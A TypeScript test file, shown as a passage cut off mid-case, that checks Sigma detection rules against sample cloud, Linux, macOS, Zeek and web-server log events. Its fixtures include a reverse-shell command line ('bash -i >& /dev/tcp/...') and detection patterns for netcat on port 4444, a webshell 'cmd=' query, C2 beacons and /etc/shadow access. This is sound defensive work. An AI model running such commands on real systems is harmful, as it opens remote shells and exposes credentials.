import { describe, expect, test } from "vitest";
import { createNormaliser } from "../../../ecs/index.ts";
import { compileFilter } from "../../../eql/index.ts";
import type { JsonObject } from "../../../readers/index.ts";
import { loadSigma } from "../../index.ts";
import { PRODUCTS, productsOf } from "./products.ts";

/** Whether a rule with one selection matches an event, as a hunt would: read, normalised, tested. */
function hits(logsource: string, selection: string, document: JsonObject): boolean {
  const text = `title: t\nid: i\nlogsource: {${logsource}}\ndetection:\n  s: ${selection}\n  condition: s\n`;
  const { rules, problems } = loadSigma([{ path: "r", text }]);
  expect(problems).toEqual([]);
  const { event } = createNormaliser().normalise({ kind: "document", place: { file: "x" }, document });
  return compileFilter(rules[0]!.query.filter)(event);
}

const dataset = (name: string): JsonObject => ({
  data_stream: { dataset: name, namespace: "default", type: "logs" },
  event: { dataset: name },
});
const of = (name: string, rest: JsonObject): JsonObject => {
  const head = dataset(name);
  const event = { ...(head["event"] as JsonObject), ...(rest["event"] as JsonObject | undefined) };
  return { ...head, ...rest, event };
};

/** A line of a log file, as the reader of syslog has it. */
const syslogLine = (appname: string, message: string): JsonObject => ({ message, log: { syslog: { hostname: "web1", appname } } });

interface Case {
  readonly logsource: string;
  /** In YAML's flow style. */
  readonly selection: string;
  readonly yes: readonly JsonObject[];
  readonly no: readonly JsonObject[];
}

const trail = { eventVersion: "1.08", awsRegion: "eu-west-1", eventTime: "2026-01-31T10:00:00Z" };
const linuxProcess = { host: { os: { type: "linux" } }, event: { category: ["process"], type: ["start"] } };
const sysmonForLinux = { Channel: "Linux-Sysmon/Operational", SourceName: "Linux-Sysmon", EventID: 1 };
const auditRecord = { type: "EXECVE", msg: "audit(1767261600.123:77):", argc: 2, a0: "chattr", a1: "-i" };

const CASES: readonly Case[] = [
  {
    logsource: "product: AWS, service: CloudTrail",
    selection: "{eventSource: iam.amazonaws.com, eventName|startswith: CreateAccess, userIdentity.type: Root}",
    yes: [
      { ...trail, eventSource: "iam.amazonaws.com", eventName: "CreateAccessKey", userIdentity: { type: "Root" } },
      { ...trail, eventSource: "iam.amazonaws.com", eventName: "CreateAccessKey", "userIdentity.type": "Root" },
      of("aws.cloudtrail", {
        event: { provider: "iam.amazonaws.com", action: "CreateAccessKey" },
        aws: { cloudtrail: { user_identity: { type: "Root" } } },
      }),
    ],
    no: [
      { ...trail, eventSource: "iam.amazonaws.com", eventName: "CreateAccessKey", userIdentity: { type: "IAMUser" } },
      of("aws.vpcflow", {
        event: { provider: "iam.amazonaws.com", action: "CreateAccessKey" },
        aws: { cloudtrail: { user_identity: { type: "Root" } } },
      }),
    ],
  },
  {
    logsource: "product: aws, service: cloudtrail",
    selection: "{eventName: ConsoleLogin, responseElements.ConsoleLogin: Success, additionalEventData.MFAUsed: 'No'}",
    yes: [
      {
        ...trail,
        eventSource: "signin.amazonaws.com",
        eventName: "ConsoleLogin",
        responseElements: { ConsoleLogin: "Success" },
        additionalEventData: { MFAUsed: "No" },
      },
      of("aws.cloudtrail", {
        event: { action: "ConsoleLogin" },
        aws: {
          cloudtrail: {
            console_login: { additional_eventdata: { mfa_used: false } },
            flattened: { response_elements: { ConsoleLogin: "Success" } },
          },
        },
      }),
    ],
    no: [
      of("aws.cloudtrail", {
        event: { action: "ConsoleLogin" },
        aws: {
          cloudtrail: {
            console_login: { additional_eventdata: { mfa_used: true } },
            flattened: { response_elements: { ConsoleLogin: "Success" } },
          },
        },
      }),
    ],
  },
  {
    logsource: "product: aws, service: cloudtrail",
    selection: "{eventName: PutBucketPolicy, requestParameters|contains|all: ['arn:aws:s3:::', '*:root']}",
    yes: [
      {
        ...trail,
        eventSource: "s3.amazonaws.com",
        eventName: "PutBucketPolicy",
        requestParameters: {
          bucketPolicy: { Statement: [{ Principal: { AWS: "arn:aws:iam::1:root" } }, { Resource: ["x", "arn:aws:s3:::b/*"] }] },
        },
      },
      of("aws.cloudtrail", {
        event: { action: "PutBucketPolicy" },
        aws: { cloudtrail: { request_parameters: "{bucketPolicy={AWS=arn:aws:iam::1:root, Resource=arn:aws:s3:::b/*}}" } },
      }),
    ],
    no: [
      {
        ...trail,
        eventSource: "s3.amazonaws.com",
        eventName: "PutBucketPolicy",
        requestParameters: { bucketPolicy: { Resource: "arn:aws:s3:::b/*" } },
        responseElements: { AWS: "arn:aws:iam::1:root" },
      },
    ],
  },
  {
    logsource: "product: aws, service: cloudtrail",
    selection: "{eventName: GetObject, requestParameters: null}",
    yes: [{ ...trail, eventSource: "s3.amazonaws.com", eventName: "GetObject", requestParameters: {} }],
    no: [{ ...trail, eventSource: "s3.amazonaws.com", eventName: "GetObject", requestParameters: { key: { name: "x" } } }],
  },
  {
    logsource: "product: azure, service: activitylogs",
    selection: "{operationName: MICROSOFT.NETWORK/FIREWALLS/DELETE}",
    yes: [
      { time: "2026-01-31T10:00:00Z", resourceId: "/S/1", operationName: "Microsoft.Network/firewalls/delete", category: "Administrative" },
      { OperationNameValue: "Microsoft.Network/firewalls/delete", CategoryValue: "Administrative", ResourceId: "/S/1" },
      of("azure.activitylogs", { azure: { activitylogs: { operation_name: "MICROSOFT.NETWORK/FIREWALLS/DELETE" } } }),
    ],
    no: [
      { time: "2026-01-31T10:00:00Z", resourceId: "/S/1", operationName: "Microsoft.Network/firewalls/write", category: "Administrative" },
      of("azure.signinlogs", { azure: { activitylogs: { operation_name: "MICROSOFT.NETWORK/FIREWALLS/DELETE" } } }),
    ],
  },
  {
    logsource: "product: azure, service: auditlogs",
    selection: "{properties.message: Add service principal, LoggedByService: Core Directory}",
    yes: [
      {
        category: "AuditLogs",
        operationName: "Add service principal",
        properties: { loggedByService: "Core Directory", targetResources: [{ displayName: "app" }] },
      },
      { activityDisplayName: "Add service principal", loggedByService: "Core Directory", activityDateTime: "2026-01-31T10:00:00Z" },
      of("azure.auditlogs", {
        azure: { auditlogs: { operation_name: "Add service principal", properties: { logged_by_service: "Core Directory" } } },
      }),
    ],
    no: [{ activityDisplayName: "Delete user", loggedByService: "Core Directory" }],
  },
  {
    logsource: "product: azure, service: auditlogs",
    selection: "{TargetResources|contains: breakglass}",
    yes: [
      { category: "AuditLogs", operationName: "x", properties: { targetResources: [{ id: "1" }, { displayName: "breakglass-1" }] } },
      { "azure.auditlogs.properties.target_resources.0.display_name": "breakglass-1", ...dataset("azure.auditlogs") },
    ],
    no: [{ category: "AuditLogs", operationName: "breakglass", properties: { targetResources: [{ displayName: "other" }] } }],
  },
  {
    logsource: "product: azure, service: signinlogs",
    selection: "{ResultType: 50126, DeviceDetail.isCompliant: 'false'}",
    yes: [
      { category: "SignInLogs", resultType: "50126", properties: { deviceDetail: { isCompliant: false } } },
      { Type: "SigninLogs", ResultType: "50126", DeviceDetail: { isCompliant: "false" } },
      {
        createdDateTime: "2026-01-31T10:00:00Z",
        appDisplayName: "Azure Portal",
        conditionalAccessStatus: "notApplied",
        status: { errorCode: 50126 },
        deviceDetail: { isCompliant: false },
      },
      of("azure.signinlogs", {
        azure: { signinlogs: { result_type: "50126", properties: { device_detail: { is_compliant: false } } } },
      }),
    ],
    no: [{ category: "SignInLogs", resultType: "0", properties: { deviceDetail: { isCompliant: false } } }],
  },
  {
    logsource: "product: azure, service: riskdetection",
    selection: "{riskEventType: anonymizedIPAddress}",
    yes: [
      { riskEventType: "anonymizedIPAddress", riskState: "atRisk", detectedDateTime: "2026-01-31T10:00:00Z" },
      { category: "UserRiskEvents", properties: { riskEventType: "anonymizedIPAddress" } },
      of("azure.identity_protection", { azure: { identityprotection: { properties: { risk_event_type: "anonymizedIPAddress" } } } }),
    ],
    no: [{ riskEventType: "unfamiliarFeatures", riskState: "atRisk" }],
  },
  {
    logsource: "product: azure, service: pim",
    selection: "{riskEventType: rolesAssignedOutsidePrivilegedIdentityManagementAlertConfiguration}",
    yes: [
      { riskEventType: "rolesAssignedOutsidePrivilegedIdentityManagementAlertConfiguration" },
      of("azure.identity_protection", {
        azure: {
          identityprotection: { properties: { risk_event_type: "rolesAssignedOutsidePrivilegedIdentityManagementAlertConfiguration" } },
        },
      }),
    ],
    no: [{ riskEventType: "leakedCredentials" }],
  },
  {
    logsource: "product: m365, service: threat_management",
    selection: "{eventSource: SecurityComplianceCenter, eventName: Mass delete, status: success}",
    yes: [
      { eventSource: "SecurityComplianceCenter", eventName: "Mass delete", status: "success" },
      {
        CreationTime: "2026-01-31T10:00:00",
        Operation: "AlertTriggered",
        Workload: "SecurityComplianceCenter",
        Name: "Mass delete",
        ResultStatus: "Success",
      },
      of("o365.audit", {
        event: { provider: "SecurityComplianceCenter", action: "AlertTriggered", outcome: "success" },
        o365: { audit: { Name: "Mass delete", Operation: "AlertTriggered" } },
      }),
    ],
    no: [
      {
        CreationTime: "2026-01-31T10:00:00",
        Operation: "AlertTriggered",
        Workload: "Exchange",
        Name: "Mass delete",
        ResultStatus: "Success",
      },
    ],
  },
  {
    logsource: "service: audit, product: m365",
    selection: "{Operation: Set-Mailbox}",
    yes: [
      { CreationTime: "2026-01-31T10:00:00", Operation: "Set-Mailbox", RecordType: 1, Workload: "Exchange" },
      of("o365.audit", { event: { action: "Set-Mailbox" }, o365: { audit: { RecordType: 1 } } }),
    ],
    no: [{ Operation: "Set-Mailbox" }],
  },
  {
    logsource: "product: okta, service: okta",
    selection: "{eventtype: user.session.start, securityContext.isProxy: 'true', debugContext.debugData.requestUri|contains: /authn}",
    yes: [
      {
        eventType: "user.session.start",
        published: "2026-01-31T10:00:00Z",
        uuid: "1",
        securityContext: { isProxy: true },
        debugContext: { debugData: { requestUri: "/api/v1/authn" } },
      },
      of("okta.system", {
        event: { action: "user.session.start" },
        okta: { security_context: { is_proxy: true }, debug_context: { debug_data: { flattened: { requestUri: "/api/v1/authn" } } } },
      }),
    ],
    no: [
      {
        eventType: "user.session.start",
        published: "2026-01-31T10:00:00Z",
        uuid: "1",
        securityContext: { isProxy: false },
        debugContext: { debugData: { requestUri: "/api/v1/authn" } },
      },
    ],
  },
  {
    logsource: "product: gcp, service: gcp.audit",
    selection: "{gcp.audit.method_name|endswith: .setIamPolicy, data.protoPayload.serviceName: iam.googleapis.com}",
    yes: [
      { protoPayload: { methodName: "google.iam.v1.setIamPolicy", serviceName: "iam.googleapis.com" }, timestamp: "2026-01-31T10:00:00Z" },
      { data: { protoPayload: { methodName: "google.iam.v1.setIamPolicy", serviceName: "iam.googleapis.com" } } },
      of("gcp.audit", {
        event: { action: "google.iam.v1.setIamPolicy" },
        gcp: { audit: { method_name: "google.iam.v1.setIamPolicy", service_name: "iam.googleapis.com" } },
      }),
    ],
    no: [{ protoPayload: { methodName: "google.iam.v1.getIamPolicy", serviceName: "iam.googleapis.com" } }],
  },
  {
    logsource: "product: gcp, service: google_workspace.admin",
    selection: "{eventService: admin.googleapis.com, eventName: DELETE_ROLE}",
    yes: [
      {
        kind: "admin#reports#activity",
        id: { applicationName: "admin", time: "2026-01-31T10:00:00Z" },
        events: [{ name: "VIEW_ROLE" }, { name: "DELETE_ROLE" }],
      },
      of("google_workspace.admin", { event: { provider: "admin", action: "DELETE_ROLE" } }),
    ],
    no: [
      { kind: "admin#reports#activity", id: { applicationName: "drive" }, events: [{ name: "DELETE_ROLE" }] },
      of("google_workspace.admin", { event: { provider: "admin", action: "CREATE_ROLE" } }),
    ],
  },
  {
    logsource: "product: github, service: audit",
    selection: "{action: repo.destroy, actor: mona}",
    yes: [
      { action: "repo.destroy", actor: "mona", created_at: 1767261600000 },
      of("github.audit", { event: { action: "repo.destroy" }, user: { name: "mona" } }),
    ],
    no: [
      { action: "repo.create", actor: "mona", created_at: 1767261600000 },
      { action: "repo.destroy", actor: "mona" },
    ],
  },
  {
    logsource: "product: bitbucket, service: audit",
    selection: "{auditType.category: Projects, auditType.action: Project deleted}",
    yes: [
      { auditType: { category: "Projects", action: "Project deleted" }, timestamp: { epochSecond: 1767261600 } },
      of("atlassian_bitbucket.audit", { bitbucket: { audit: { type: { category: "Projects", action: "Project deleted" } } } }),
    ],
    no: [{ auditType: { category: "Users", action: "Project deleted" } }],
  },
  {
    logsource: "product: kubernetes, category: application, service: audit",
    selection: "{verb: create, objectRef.resource: pods, apiGroup: apps, responseStatus.code: 201}",
    yes: [
      { apiVersion: "audit.k8s.io/v1", verb: "create", objectRef: { resource: "pods", apiGroup: "apps" }, responseStatus: { code: 201 } },
      of("kubernetes.audit_logs", {
        kubernetes: { audit: { verb: "create", objectRef: { resource: "pods", apiGroup: "apps" }, responseStatus: { code: 201 } } },
      }),
    ],
    no: [{ apiVersion: "v1", verb: "create", objectRef: { resource: "pods", apiGroup: "apps" }, responseStatus: { code: 201 } }],
  },
  {
    logsource: "product: onelogin, service: onelogin.events",
    selection: "{event_type_id: 11}",
    yes: [{ event_type_id: 11, account_id: 7 }, of("onelogin.events", { event: { code: "11" } })],
    no: [{ event_type_id: 12, account_id: 7 }],
  },
  {
    logsource: "product: linux, category: process_creation",
    selection: "{Image|endswith: /curl, CommandLine|contains: '-o', ParentImage: /bin/sh, User: root}",
    yes: [
      { ...sysmonForLinux, Image: "/usr/bin/curl", CommandLine: "curl -o x", ParentImage: "/bin/sh", User: "root" },
      {
        ...linuxProcess,
        process: { executable: "/usr/bin/curl", command_line: "curl -o x", parent: { executable: "/bin/sh" } },
        user: { name: "root" },
      },
    ],
    no: [
      { ...sysmonForLinux, EventID: 5, Image: "/usr/bin/curl", CommandLine: "curl -o x", ParentImage: "/bin/sh", User: "root" },
      {
        ...linuxProcess,
        host: { os: { type: "windows" } },
        process: { executable: "/usr/bin/curl", command_line: "curl -o x", parent: { executable: "/bin/sh" } },
        user: { name: "root" },
      },
    ],
  },
  {
    logsource: "category: process_creation",
    selection: "{Image|endswith: /curl}",
    yes: [
      { ...linuxProcess, process: { executable: "/usr/bin/curl" } },
      { ...linuxProcess, host: { os: { type: "macos" } }, process: { executable: "/usr/bin/curl" } },
    ],
    no: [{ ...linuxProcess, event: { category: ["process"], type: ["end"] }, process: { executable: "/usr/bin/curl" } }],
  },
  {
    logsource: "product: linux, category: file_event",
    selection: "{TargetFilename|startswith: /etc/cron}",
    yes: [
      { ...sysmonForLinux, EventID: 11, TargetFilename: "/etc/cron.d/x" },
      { host: { os: { type: "linux" } }, event: { category: ["file"], type: ["creation"] }, file: { path: "/etc/cron.d/x" } },
    ],
    no: [{ host: { os: { type: "linux" } }, event: { category: ["file"], type: ["deletion"] }, file: { path: "/etc/cron.d/x" } }],
  },
  {
    logsource: "product: linux, category: network_connection",
    selection: "{DestinationPort: 4444, Image|endswith: /nc}",
    yes: [
      { ...sysmonForLinux, EventID: 3, Image: "/bin/nc", DestinationPort: 4444 },
      {
        host: { os: { type: "linux" } },
        event: { category: ["network"], type: ["start"] },
        process: { executable: "/bin/nc" },
        destination: { port: 4444 },
      },
    ],
    no: [{ ...sysmonForLinux, EventID: 3, Image: "/bin/nc", DestinationPort: 443 }],
  },
  ...(
    [
      ["process_termination", "5", "process", "end"],
      ["file_change", "2", "file", "change"],
      ["file_delete", "23", "file", "deletion"],
    ] as const
  ).flatMap(([category, code, ecs, type]): Case[] => [
    {
      logsource: `product: linux, category: ${category}`,
      selection: "{Image: /tmp/x}",
      yes: [
        { ...sysmonForLinux, EventID: code, Image: "/tmp/x" },
        { host: { os: { type: "linux" } }, event: { category: [ecs], type: [type] }, process: { executable: "/tmp/x" } },
      ],
      no: [{ ...sysmonForLinux, EventID: 9, Image: "/tmp/x" }],
    },
    {
      logsource: `product: macos, category: ${category}`,
      selection: "{Image: /tmp/x}",
      yes: [{ host: { os: { type: "macos" } }, event: { category: [ecs], type: [type] }, process: { executable: "/tmp/x" } }],
      no: [{ host: { os: { type: "linux" } }, event: { category: [ecs], type: [type] }, process: { executable: "/tmp/x" } }],
    },
  ]),
  {
    logsource: "product: linux, service: sysmon",
    selection: "{EventID: 11, TargetFilename: /tmp/x}",
    yes: [
      { ...sysmonForLinux, EventID: 11, TargetFilename: "/tmp/x" },
      of("sysmon_linux.log", { event: { code: "11" }, file: { path: "/tmp/x" } }),
    ],
    no: [{ Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11, TargetFilename: "/tmp/x" }],
  },
  {
    logsource: "product: macos, category: network_connection",
    selection: "{DestinationPort: 4444}",
    yes: [{ host: { os: { type: "macos" } }, event: { category: ["network"], type: ["start"] }, destination: { port: 4444 } }],
    no: [{ host: { os: { type: "macos" } }, event: { category: ["network"], type: ["end"] }, destination: { port: 4444 } }],
  },
  {
    logsource: "product: macos",
    selection: "['/dev/tcp/']",
    yes: [{ host: { os: { type: "macos" } }, message: "/dev/tcp/1.2.3.4/1" }],
    no: [{ host: { os: { type: "linux" } }, message: "/dev/tcp/1.2.3.4/1" }],
  },
  {
    logsource: "product: linux, service: auditd",
    selection: "{type: EXECVE, a0: chattr, a1|contains: i}",
    yes: [
      auditRecord,
      of("auditd.log", { event: { action: "execve" }, auditd: { log: { a0: "chattr", a1: "-i" } } }),
      of("auditd_manager.auditd", { auditd: { message_type: "syscall" }, process: { args: ["chattr", "-i", "/etc/passwd"] } }),
    ],
    no: [
      { ...auditRecord, type: "SYSCALL" },
      { ...auditRecord, type: "anything" },
    ],
  },
  {
    logsource: "product: linux, service: auditd",
    selection: "{type: PATH, name|startswith: /etc/shadow}",
    yes: [
      { type: "PATH", name: "/etc/shadow", nametype: "NORMAL" },
      { event: { module: "auditd" }, auditd: { message_type: "syscall", paths: [{ name: "/etc" }, { name: "/etc/shadow" }] } },
    ],
    no: [{ type: "PATH", name: "/etc/hosts" }],
  },
  {
    logsource: "product: linux, service: sshd",
    selection: "['Corrupted MAC']",
    yes: [
      { SYSLOG_IDENTIFIER: "sshd", MESSAGE: "ssh_dispatch_run_fatal: Corrupted MAC on input" },
      { process: { name: "sshd" }, message: "Corrupted MAC on input" },
      syslogLine("sshd", "ssh_dispatch_run_fatal: Corrupted MAC on input"),
    ],
    no: [
      syslogLine("cron", "Corrupted MAC on input"),
      { SYSLOG_IDENTIFIER: "cron", MESSAGE: "Corrupted MAC on input" },
      { process: { name: "sshd" }, message: "Accepted publickey" },
    ],
  },
  {
    logsource: "product: linux, service: sudo",
    selection: "{USER|startswith: '#'}",
    yes: [
      { program: "sudo", USER: "#-1" },
      of("system.auth", { process: { name: "sudo" }, user: { effective: { name: "#-1" } } }),
      syslogLine("sudo", "eve : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh"),
    ],
    no: [{ program: "su", USER: "#-1" }],
  },
  ...(
    [
      ["auth", "system.auth"],
      ["syslog", "system.syslog"],
    ] as const
  ).map(([service, name]): Case => ({
    logsource: `product: linux, service: ${service}`,
    selection: "['segfault at']",
    yes: [
      { log: { file: { path: service === "auth" ? "/var/log/auth.log" : "/var/log/syslog" } }, message: "x: segfault at 0" },
      of(name, { message: "x: segfault at 0" }),
      syslogLine(service === "auth" ? "sudo" : "app", "x: segfault at 0"),
    ],
    no: [{ log: { file: { path: "/var/log/dpkg.log" } }, message: "x: segfault at 0" }],
  })),
  ...(
    [
      ["cron", "crond"],
      ["clamav", "clamd"],
      ["guacamole", "guacd"],
      ["vsftpd", "vsftpd"],
    ] as const
  ).map(([service, program]): Case => ({
    logsource: `product: linux, service: ${service}`,
    selection: "['evil thing']",
    yes: [
      { _COMM: program, MESSAGE: "an evil thing" },
      { process: { name: program }, message: "an evil thing" },
      syslogLine(program, "an evil thing"),
    ],
    no: [{ process: { name: "other" }, message: "an evil thing" }],
  })),
  {
    logsource: "product: linux",
    selection: "['/dev/tcp/']",
    yes: [
      { host: { os: { type: "linux" } }, message: "bash -i >& /dev/tcp/1.2.3.4/1" },
      { SYSLOG_IDENTIFIER: "bash", MESSAGE: "bash -i >& /dev/tcp/1.2.3.4/1" },
      syslogLine("bash", "bash -i >& /dev/tcp/1.2.3.4/1"),
    ],
    no: [{ host: { os: { type: "windows" } }, message: "bash -i >& /dev/tcp/1.2.3.4/1" }],
  },
  {
    logsource: "product: macos, category: process_creation",
    selection: "{Image: /usr/bin/osascript, CommandLine|contains: 'do shell'}",
    yes: [
      {
        host: { os: { type: "macos" } },
        event: { category: ["process"], type: ["start"] },
        process: { executable: "/usr/bin/osascript", command_line: "osascript -e do shell script" },
      },
      {
        host: { os: { platform: "darwin" } },
        event: { category: "process", type: "start" },
        process: { executable: "/usr/bin/osascript", command_line: "osascript -e do shell script" },
      },
    ],
    no: [{ ...linuxProcess, process: { executable: "/usr/bin/osascript", command_line: "osascript -e do shell script" } }],
  },
  {
    logsource: "product: macos, category: file_event",
    selection: "{TargetFilename|contains: /LaunchAgents/}",
    yes: [
      {
        host: { os: { type: "macos" } },
        event: { category: ["file"], type: ["creation"] },
        file: { path: "/Library/LaunchAgents/x.plist" },
      },
    ],
    no: [{ host: { os: { type: "macos" } }, event: { category: ["file"], type: ["creation"] }, file: { path: "/tmp/x.plist" } }],
  },
  {
    logsource: "category: webserver",
    selection: "{cs-method: POST, cs-uri-stem|endswith: .jsp, cs-uri-query|contains: cmd=, sc-status: 200}",
    yes: [
      { "cs-method": "POST", "cs-uri-stem": "/a.jsp", "cs-uri-query": "cmd=id", "sc-status": "200" },
      of("apache.access", {
        http: { request: { method: "POST" }, response: { status_code: 200 } },
        url: { path: "/a.jsp", query: "cmd=id" },
      }),
    ],
    no: [{ "cs-method": "GET", "cs-uri-stem": "/a.jsp", "cs-uri-query": "cmd=id", "sc-status": "200" }],
  },
  {
    logsource: "category: proxy",
    selection: "{c-uri|contains: /gate.php, c-useragent|startswith: evil, cs-host: c2.example}",
    yes: [
      { "c-uri": "http://c2.example/gate.php", "c-useragent": "evil/1", "cs-host": "c2.example" },
      of("squid.log", { url: { full: "http://c2.example/gate.php", domain: "c2.example" }, user_agent: { original: "evil/1" } }),
    ],
    no: [{ "c-uri": "http://c2.example/", "c-useragent": "evil/1", "cs-host": "c2.example" }],
  },
  ...(["apache", "nginx", "iis", "tomcat"] as const).map((name): Case => ({
    logsource: `product: ${name}, category: webserver`,
    selection: "['exit signal Segmentation']",
    yes: [of(`${name}.${name === "tomcat" ? "log" : "error"}`, { message: "child exit signal Segmentation fault" })],
    no: [of("haproxy.log", { message: "child exit signal Segmentation fault" })],
  })),
  {
    logsource: "product: iis",
    selection: "['unhandled exception']",
    yes: [{ log: { file: { path: "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex.log" } }, message: "Unhandled exception" }],
    no: [{ log: { file: { path: "C:\\logs\\u_ex.log" } }, message: "Unhandled exception" }],
  },
  {
    logsource: "product: modsecurity",
    selection: "['mod_security-message: Access denied']",
    yes: [{ message: "ModSecurity: x mod_security-message: Access denied" }],
    no: [{ message: "a message: Access denied" }],
  },
  {
    logsource: "category: firewall",
    selection: "{dst_ip|cidr: 203.0.113.0/24, dst_port: 22}",
    yes: [{ src_ip: "10.0.0.1", dst_ip: "203.0.113.7", dst_port: 22 }, of("panw.panos", { destination: { ip: "203.0.113.7", port: 22 } })],
    no: [{ src_ip: "10.0.0.1", dst_ip: "198.51.100.7", dst_port: 22 }],
  },
  {
    logsource: "category: dns",
    selection: "{query|endswith: .evil.example}",
    yes: [{ query: "a.evil.example", record_type: "A" }, { dns: { question: { name: "a.evil.example" } } }],
    no: [{ query: "a.good.example", record_type: "A" }],
  },
  {
    logsource: "category: network, service: connection",
    selection: "{destination.port: 6667, network.transport: tcp}",
    yes: [{ network: { transport: "tcp" }, source: { ip: "10.0.0.1" }, destination: { ip: "10.0.0.2", port: 6667 } }],
    no: [{ network: { transport: "udp" }, source: { ip: "10.0.0.1" }, destination: { ip: "10.0.0.2", port: 6667 } }],
  },
  {
    logsource: "category: antivirus",
    selection: "{Signature|contains: Mimikatz, Filename|endswith: .exe}",
    yes: [
      { Signature: "HackTool.Mimikatz", Filename: "C:\\m.exe" },
      of("endpoint.alerts", { rule: { name: "Windows.Hacktool.Mimikatz" }, file: { path: "C:\\m.exe" } }),
      {
        winlog: {
          channel: "Microsoft-Windows-Windows Defender/Operational",
          event_id: "1116",
          event_data: { "Threat Name": "HackTool:Win32/Mimikatz", Path: "C:\\m.exe" },
        },
        event: { code: "1116" },
      },
    ],
    no: [{ Signature: "EICAR", Filename: "C:\\m.exe" }],
  },
  {
    logsource: "category: database",
    selection: "['UNION SELECT']",
    yes: [
      of("mysql.slowlog", { message: "select 1 union select 2" }),
      { event: { category: ["database"] }, message: "select 1 union select 2" },
    ],
    no: [{ message: "select 1 union select 2" }],
  },
  ...(["django", "ruby_on_rails", "spring", "jvm", "nodejs", "velocity", "sql"] as const).map((product): Case => ({
    logsource: `product: ${product}, category: application`,
    selection: "[SomeError]",
    yes: [of(`${product}.log`, { message: "SomeError: x" }), { service: { framework: { name: product } }, message: "SomeError: x" }],
    no: [of("other.log", { message: "SomeError: x" })],
  })),
  {
    logsource: "product: python, category: application",
    selection: "[DataError]",
    yes: [
      { service: { language: { name: "python" } }, error: { message: "psycopg2.DataError: x" } },
      of("python", { message: "DataError" }),
    ],
    no: [{ service: { language: { name: "java" } }, error: { message: "psycopg2.DataError: x" } }],
  },
  {
    logsource: "product: opencanary, category: application",
    selection: "{logtype: 4002}",
    yes: [
      { logtype: 4002, node_id: "c1", src_host: "10.0.0.1" },
      { event: { provider: "LOG_SSH_LOGIN_ATTEMPT" }, opencanary: { node: { id: "c1" } } },
    ],
    no: [{ logtype: 4001, node_id: "c1" }],
  },
  {
    logsource: "product: rpc_firewall, category: application",
    selection: "{EventLog: RPCFW, EventID: 3, InterfaceUuid: 4d9f4ab8-7d1c-11cf-861e-0020af6e7c57}",
    yes: [
      { EventLog: "RPCFW", EventID: 3, InterfaceUuid: "4d9f4ab8-7d1c-11cf-861e-0020af6e7c57" },
      { Channel: "RPCFW", EventID: 3, InterfaceUuid: "4d9f4ab8-7d1c-11cf-861e-0020af6e7c57" },
    ],
    no: [{ Channel: "Application", EventID: 3, InterfaceUuid: "4d9f4ab8-7d1c-11cf-861e-0020af6e7c57" }],
  },
  ...(
    [
      ["conn", "connection"],
      ["http", "http"],
      ["smb_mapping", "smb_mapping"],
      ["kerberos", "kerberos"],
      ["rdp", "rdp"],
      ["ssl", "ssl"],
      ["ssh", "ssh"],
      ["ntlm", "ntlm"],
      ["files", "files"],
      ["notice", "notice"],
      ["weird", "weird"],
      ["smtp", "smtp"],
      ["ftp", "ftp"],
    ] as const
  ).map(([service, name]): Case => ({
    logsource: `product: zeek, service: ${service}`,
    selection: "{id.resp_h: 192.0.2.9, some_field: x}",
    yes: [
      { _path: service, ts: 1767261600.5, "id.resp_h": "192.0.2.9", some_field: "x" },
      of(`zeek.${name}`, { destination: { ip: "192.0.2.9" }, zeek: { [name]: { some_field: "x" } } }),
    ],
    no: [
      { _path: "dpd", ts: 1767261600.5, "id.resp_h": "192.0.2.9", some_field: "x" },
      of(`zeek.${name}`, { destination: { ip: "192.0.2.8" }, zeek: { [name]: { some_field: "x" } } }),
    ],
  })),
  {
    logsource: "product: zeek, service: dce_rpc",
    selection: "{operation: SchRpcRegisterTask, endpoint: atsvc}",
    yes: [
      { _path: "dce_rpc", ts: 1767261600.5, uid: "C1", "id.resp_p": 135, endpoint: "atsvc", operation: "SchRpcRegisterTask" },
      { ts: 1767261600.5, uid: "C1", endpoint: "atsvc", operation: "SchRpcRegisterTask" },
      of("zeek.dce_rpc", { zeek: { dce_rpc: { endpoint: "atsvc", operation: "SchRpcRegisterTask" } } }),
    ],
    no: [{ _path: "dce_rpc", ts: 1, uid: "C1", endpoint: "samr", operation: "SchRpcRegisterTask" }],
  },
  {
    logsource: "product: zeek, service: dns",
    selection: "{query|endswith: .onion, id.resp_p: 53}",
    yes: [
      { _path: "dns", ts: 1, uid: "C1", "id.resp_p": 53, query: "x.onion" },
      of("zeek.dns", { dns: { question: { name: "x.onion" } }, destination: { port: 53 } }),
    ],
    no: [{ _path: "http", ts: 1, uid: "C1", "id.resp_p": 53, query: "x.onion" }],
  },
  {
    logsource: "product: zeek, service: x509",
    selection: "{certificate.serial: 8BB0}",
    yes: [{ ts: 1, "certificate.serial": "8BB0" }, of("zeek.x509", { zeek: { x509: { certificate: { serial: "8BB0" } } } })],
    no: [{ ts: 1, "certificate.serial": "8BB1" }],
  },
  {
    logsource: "product: zeek, service: smb_files",
    selection: "{name|contains: PSEXESVC, path|endswith: 'ADMIN$'}",
    yes: [
      { ts: 1, uid: "C", action: "SMB::FILE_OPEN", name: "PSEXESVC.exe", path: "\\\\h\\ADMIN$" },
      of("zeek.smb_files", { zeek: { smb_files: { name: "PSEXESVC.exe", path: "\\\\h\\ADMIN$" } } }),
    ],
    no: [{ ts: 1, uid: "C", action: "SMB::FILE_OPEN", name: "PSEXESVC.exe", path: "\\\\h\\C$" }],
  },
  ...(
    [
      ["cisco", "aaa", "cisco_ios.log"],
      ["cisco", "bgp", "cisco_ios.log"],
      ["cisco", "ldp", "cisco_ios.log"],
      ["huawei", "bgp", "huawei.log"],
      ["juniper", "bgp", "juniper_junos.log"],
    ] as const
  ).map(([product, service, name]): Case => ({
    logsource: `product: ${product}, service: ${service}`,
    selection: "['clear logging']",
    yes: [of(name, { message: "cmd: clear logging" }), { observer: { vendor: product }, message: "cmd: clear logging" }],
    no: [{ observer: { vendor: "acme" }, message: "cmd: clear logging" }],
  })),
  {
    logsource: "product: cisco, service: duo",
    selection: "{action: admin_update, reason: Bypass user}",
    yes: [
      { isotimestamp: "2026-01-31T10:00:00Z", action: "admin_update", reason: "Bypass user" },
      of("cisco_duo.admin", { event: { action: "admin_update", reason: "Bypass user" } }),
    ],
    no: [{ isotimestamp: "2026-01-31T10:00:00Z", action: "admin_login", reason: "Bypass user" }],
  },
  {
    logsource: "product: fortigate, service: event",
    selection: "{action: Add, cfgpath: system.admin}",
    yes: [
      { logid: "1", devid: "FG", type: "event", action: "Add", cfgpath: "system.admin" },
